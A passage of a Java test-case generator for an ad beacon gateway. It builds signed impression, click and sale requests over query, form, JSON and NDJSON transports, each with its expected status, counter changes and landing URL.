        Campaign c = TestCatalog.CATALOG.campaign(TestCatalog.CATALOG.banner(banner).campaignId());
        Map<String, String> out = new LinkedHashMap<>(params);
        out.remove("sig");
        out.put("sig", BeaconSigner.sign(c.key(Campaign.FIRST_KID).spec(), type, out));
        return out;
    }

    static List<String[]> pairs(Map<String, String> params) {
        return params.entrySet().stream().map(e -> new String[] {e.getKey(), e.getValue()}).collect(Collectors.toCollection(ArrayList::new));
    }

    /** Adds the case of these decoded pairs sent by transport {@code t}, with its expected answer. */
    void add(String group, String name, EventType type, Transport t, List<String[]> pairs) {
        int verdict = BeaconOracle.status(type, pairs, now);
        boolean ok = verdict == BeaconOracle.success(type);
        Counts delta = ok ? delta(type, pairs) : NOTHING;
        String location = ok && type == EventType.CLICK ? landing(pairs) : null;
        switch (t) {
            case QUERY, QUERY_ALL_ESCAPED -> {
                String uri = path(type) + "?" + query(pairs, t == Transport.QUERY_ALL_ESCAPED);
                byte[] request = ascii("GET " + uri + " HTTP/1.1\r\nHost: gw\r\n\r\n");
                if (uri.length() > 2048) {
                    cases.add(new Case("URL too long", name, request, 414, NOTHING, 1, 0, null));
                } else {
                    cases.add(new Case(group, name, request, verdict, delta, ok ? 0 : 1, 0, location));
                }
            }
            case SALE_QUERY -> {
                String uri = "/s?" + query(pairs, false);
                byte[] request = ascii("POST " + uri + " HTTP/1.1\r\nHost: gw\r\nContent-Length: 0\r\n\r\n");
                if (uri.length() > 2048) {
                    cases.add(new Case("URL too long", name, request, 414, NOTHING, 1, 0, null));
                } else {
                    cases.add(new Case(group, name, request, verdict, delta, ok ? 0 : 1, 0, null));
                }
            }
            case FORM -> cases.add(new Case(group, name, post("/s", "application/x-www-form-urlencoded",
                    query(pairs, false).getBytes(StandardCharsets.US_ASCII)), verdict, delta, ok ? 0 : 1, 0, null));
            case JSON -> cases.add(new Case(group, name, post("/s", "application/json",
                    json(null, pairs).getBytes(StandardCharsets.UTF_8)), verdict, delta, ok ? 0 : 1, 0, null));
            case NDJSON -> cases.add(new Case(group, name, post("/events", "application/x-ndjson",
                    json(code(type), pairs).getBytes(StandardCharsets.UTF_8)), 200, delta, ok ? 0 : 1, ok ? 0 : verdict, null));
            default -> throw new IllegalArgumentException(t.name());
        }
    }

    static String code(EventType type) {
        return switch (type) {
            case IMPRESSION -> "i";
            case CLICK -> "c";
            case SALE -> "s";
        };
    }

    static String path(EventType type) {
        return switch (type) {
            case IMPRESSION -> "/i";
            case CLICK -> "/c";
            case SALE -> "/s";
        };
    }

    private static Counts delta(EventType type, List<String[]> pairs) {
        return switch (type) {
            case IMPRESSION -> new Counts(1, 0, 0, 0);
            case CLICK -> new Counts(0, 1, 0, 0);
            case SALE -> new Counts(0, 0, 1, new java.math.BigDecimal(value(pairs, "amount")).movePointRight(6).longValueExact());
        };
    }

    /** The banner's landing URL with the click's id (issue 21). */
    static String landing(List<String[]> pairs) {
        io.adgrid.catalog.Banner banner = TestCatalog.CATALOG.banner(Long.parseLong(value(pairs, "b")));
        Map<String, String> params = new java.util.LinkedHashMap<>();
        pairs.forEach(p -> params.put(p[0], p[1]));
        return TestCatalog.landingOf(banner, TestCatalog.CATALOG.campaign(banner.campaignId()), params.getOrDefault("kid", "0"), params);
    }

    static String value(List<String[]> pairs, String name) {
        return pairs.stream().filter(p -> p[0].equals(name)).map(p -> p[1]).findFirst().orElseThrow();
    }

    static String query(List<String[]> pairs, boolean escapeEveryByte) {
        return pairs.stream().map(p -> escape(p[0], escapeEveryByte) + "=" + escape(p[1], escapeEveryByte)).collect(Collectors.joining("&"));
    }

    static String escape(String s, boolean everyByte) {
        if (!everyByte) {
            return URLEncoder.encode(s, StandardCharsets.UTF_8);
        }
        StringBuilder sb = new StringBuilder();
        for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
            sb.append('%').append(String.format("%02X", b & 0xff));
        }
        return sb.toString();
    }

    /** A flat JSON object of string values (with {@code type} first when given), properly escaped. */
    static String json(String type, List<String[]> pairs) {
        StringBuilder sb = new StringBuilder("{");
        if (type != null) {
            sb.append("\"type\":\"").append(type).append('"');
        }
        for (String[] p : pairs) {
            if (sb.length() > 1) {
                sb.append(',');
            }
            sb.append(jsonString(p[0])).append(':').append(jsonString(p[1]));
        }
        return sb.append('}').toString();
    }

    static String jsonString(String s) {
        StringBuilder sb = new StringBuilder("\"");
        for (int i = 0; i < s.length(); i++) {
            char ch = s.charAt(i);
            if (ch == '"' || ch == '\\') {
                sb.append('\\').append(ch);
            } else if (ch < 0x20) {
                sb.append(String.format("\\u%04x", (int) ch));
            } else {
                sb.append(ch);
            }
        }
        return sb.append('"').toString();
    }

    static byte[] post(String uri, String contentType, byte[] body) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(body.length + 128);
        out.writeBytes(ascii("POST " + uri + " HTTP/1.1\r\nHost: gw\r\n"
                + (contentType == null ? "" : "Content-Type: " + contentType + "\r\n")
                + "Content-Length: " + body.length + "\r\n\r\n"));
        out.writeBytes(body);
        return out.toByteArray();
    }

    static String shorten(String value) {
        return escaped(value, 40);
    }

    /** At most {@code max} characters of {@code value}, control and non-ASCII characters as \\uXXXX. */
    static String escaped(String value, int max) {
        String s = value.length() > max ? value.substring(0, max) + "...(" + value.length() + ")" : value;
        StringBuilder sb = new StringBuilder();
        for (char ch : s.toCharArray()) {
            sb.append(ch < 0x20 || ch > 0x7e ? String.format("\\u%04x", (int) ch) : String.valueOf(ch));
        }
        return sb.toString();
    }
}
